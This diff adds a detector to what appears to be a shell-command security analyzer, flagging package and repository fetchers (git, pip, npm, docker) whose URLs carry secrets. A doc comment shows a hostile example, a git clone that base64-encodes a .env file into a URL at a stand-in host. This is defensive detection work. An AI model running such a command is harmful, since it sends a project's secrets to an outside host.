@@ -105,6 +105,48 @@ export function browserUrlFinding(name: string, cmd: SimpleCommand, ctx: Analysi
   return what ? send(what, `${name} opens a URL carrying ${what}: the browser sends it to that host`) : undefined;
 }
 
+/**
+ * Programs that fetch the URLs they are given, besides HTTP clients and browsers: a package or repository
+ * source (`git clone URL`, `pip install URL`, `npm install URL`, `go get`, `helm repo add`, `docker pull`).
+ */
+export const URL_FETCHERS = new Set([
+  'git',
+  'pip',
+  'pip3',
+  'uv',
+  'pipx',
+  'npm',
+  'pnpm',
+  'yarn',
+  'bun',
+  'npx',
+  'go',
+  'cargo',
+  'gem',
+  'helm',
+  'docker',
+  'podman',
+  'brew',
+  'svn',
+  'hg',
+]);
+
+/**
+ * A fetched URL whose host, path or query carries a secret (`git clone "https://x.example/$(base64 -w0 .env)"`):
+ * the request sends it to that host. A secret before the `@` is a login the host checks, and stays quiet.
+ */
+export function fetchedUrlFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
+  const urls = positionals(cmd.argv)
+    .flatMap((w) => w.split(/(?=[a-z][\w+.-]*:\/\/)/i))
+    .filter((w) => looksLikeUrl(w) && !isLocalHostUrl(w))
+    .map((u) => u.replace(/^([a-z][\w+.-]*:\/\/)[^/?#]*@/i, '$1'));
+  const carried = urls.filter((u) => /\$\(|`/.test(u) || secretRefs(u).length);
+  if (carried.length === 0) return undefined;
+  const refs = carried.flatMap((u) => secretRefs(u));
+  const what = refs.length ? '$' + refs[0] : substitutedSecret(cmd, ctx);
+  return what ? send(what, `${name} fetches a URL carrying ${what}: the request sends it to that host`) : undefined;
+}
+
 // ---- AWS CLI parameters read from files ----------------------------------------------
 
 /** Services whose job is to hold a secret: storing one there is what they are for. */
